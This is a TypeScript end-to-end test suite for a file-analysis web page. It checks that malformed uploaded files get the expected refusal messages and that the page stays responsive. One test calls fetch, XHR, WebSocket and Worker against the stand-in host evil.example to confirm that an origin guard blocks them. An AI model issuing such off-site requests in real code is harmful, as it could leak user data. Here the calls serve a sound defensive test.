// The bad-input corpus in Chromium: every case dropped onto the page gets the message its case expects
// (naming the file) or a correct reading; a refused file leaves the analysis on screen as it was; no
// request leaves the site from the page or any worker; nothing throws. The page's longest task is
// printed (the figure for the README); timing is never asserted.

import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isSameOrigin, repoRoot, useSite, type AppPage } from './harness.ts';
import type { BadCase } from '../support/badCases.ts';
import { BIG_INPUTS } from '../support/bigInputs.ts';

const WAIT = { timeout: 120_000, polling: 100 };
const dir = resolve(repoRoot, 'test/fixtures/bad');
const cases = JSON.parse(readFileSync(join(dir, 'cases.json'), 'utf8')) as BadCase[];

describe('the bad-input corpus in the page', () => {
  const site = useSite();
  let app: AppPage;
  let tmp: string;

  beforeAll(async () => {
    app = site.app;
    // Long tasks of the page's main thread, from the first script on.
    await app.context.addInitScript(() => {
      const w = window as unknown as { __longest: number };
      w.__longest = 0;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) w.__longest = Math.max(w.__longest, entry.duration);
      }).observe({ type: 'longtask', buffered: true });
    });
    await app.page.reload();
    await app.page.waitForSelector('[data-testid=report-meta]', WAIT);
    tmp = mkdtempSync(join(tmpdir(), 'duizhang-bad-'));
  });
  afterAll(() => {
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  const files: Array<[string, BadCase, () => string]> = [
    ...cases.filter((c) => c.hash === undefined).map((c): [string, BadCase, () => string] => [c.file, c, () => join(dir, c.file)]),
    ...BIG_INPUTS.map((b): [string, BadCase, () => string] => [
      `${b.file} (generated)`,
      b,
      () => {
        const path = join(tmp, b.file);
        writeFileSync(path, b.make());
        return path;
      },
    ]),
  ];

  it.each(files)('%s', async (_name, badCase, path) => {
    const { page } = app;
    const before = await page.getAttribute('[data-testid=report-meta]', 'data-file-name');
    const longestBefore = await page.evaluate(() => (window as unknown as { __longest: number }).__longest);
    await page.setInputFiles('#file-input', path());
    const name = badCase.file;
    await page.waitForFunction(
      (n) => [...document.querySelectorAll('[role=alert][data-file-name], [data-testid=report-meta]')].some((e) => e.getAttribute('data-file-name') === n),
      name,
      WAIT,
    );
    await page.waitForTimeout(300); // the observer reports a task after it ends
    const longest = await page.evaluate(() => (window as unknown as { __longest: number }).__longest);
    if (longest > longestBefore) console.info(`bad inputs e2e: ${name}: a main-thread task of ${Math.round(longest)} ms`);
    const alert = page.locator('[role=alert][data-file-name]');
    const refusal = (await alert.count()) > 0 && (await alert.getAttribute('data-file-name')) === name ? await alert.innerText() : undefined;
    const { refused, orReads } = badCase.expect;
    if (refusal !== undefined) {
      expect(refused, `refused: ${refusal}`).toBeDefined();
      expect(refusal).toMatch(new RegExp(refused!));
      // The analysis on screen is the one before: nothing the user had is lost.
      expect(await page.getAttribute('[data-testid=report-meta]', 'data-file-name')).toBe(before);
    } else {
      expect(!refused || orReads, `read although it should be refused (${refused})`).toBeTruthy();
      expect(await page.getAttribute('[data-testid=report-meta]', 'data-file-name')).toBe(name);
      if (badCase.expect.reads?.values.length && !badCase.expect.errors) {
        expect(await page.locator('[data-testid=findings] [data-finding][data-severity=error]').count()).toBe(0);
      }
    }
  });

  it('draws a page whose text runs sideways turned upright, as it was read', async () => {
    const { page } = app;
    await page.setInputFiles('#file-input', join(dir, 'sideways-page.pdf'));
    await page.waitForSelector('[data-testid=report-meta][data-file-name="sideways-page.pdf"]', WAIT);
    // The page is portrait (595 × 842); read a quarter turn round, it is drawn landscape.
    await page.waitForFunction(() => {
      const canvas = document.querySelector<HTMLCanvasElement>('[data-testid=page-view] canvas');
      return !!canvas && canvas.width > 0 && canvas.width > canvas.height;
    }, undefined, WAIT);
  });

  it('kept the page responsive: the longest main-thread task while reading them is printed', async () => {
    const longest = await app.page.evaluate(() => (window as unknown as { __longest: number }).__longest);
    console.info(`bad inputs e2e: longest main-thread task while reading ${files.length} bad files: ${Math.round(longest)} ms`);
    expect(longest).toBeGreaterThanOrEqual(0);
  });

  it.each(cases.filter((c) => c.hash !== undefined).map((c) => [c.file, c] as const))('%s', async (_name, badCase) => {
    const { page } = app;
    await page.goto(`${site.preview.url}${badCase.hash}`);
    await page.reload();
    await page.waitForFunction((pattern) => new RegExp(pattern).test(document.querySelector('[role=alert]')?.textContent ?? ''), badCase.expect.refused!, WAIT);
  });

  it('has the origin guard installed in the analysis worker: an off-site fetch is refused before it is sent', async () => {
    const { page } = app;
    await page.setInputFiles('#file-input', join(dir, 'text-named.pdf'));
    await page.waitForSelector('[data-testid=report-meta][data-file-name="text-named.pdf"]', WAIT);
    const worker = page.workers().find((w) => /analysis\.worker/.test(w.url()));
    expect(worker, 'the analysis worker').toBeDefined();
    const refused = await worker!.evaluate(async () => {
      const attempts = [
        () => fetch('https://evil.example/x'),
        () => fetch(new Request('http://evil.example/y')),
        async () => new XMLHttpRequest().open('GET', 'https://evil.example/z'),
        async () => new WebSocket('wss://evil.example/'),
        async () => new Worker('https://evil.example/w.js'),
      ];
      const names: string[] = [];
      for (const attempt of attempts) names.push(await attempt().then(() => 'sent', (e: Error) => e.name));
      return names;
    });
    expect(refused).toEqual(Array(5).fill('OffOriginRequestError'));
  });

  it('made no request outside the site from the page or any worker, and threw nothing', async () => {
    expect(app.requests.length).toBeGreaterThan(10);
    expect(app.requests.filter((url) => !isSameOrigin(url, site.preview.origin))).toEqual([]);
    expect(app.errors).toEqual([]);
  });
});
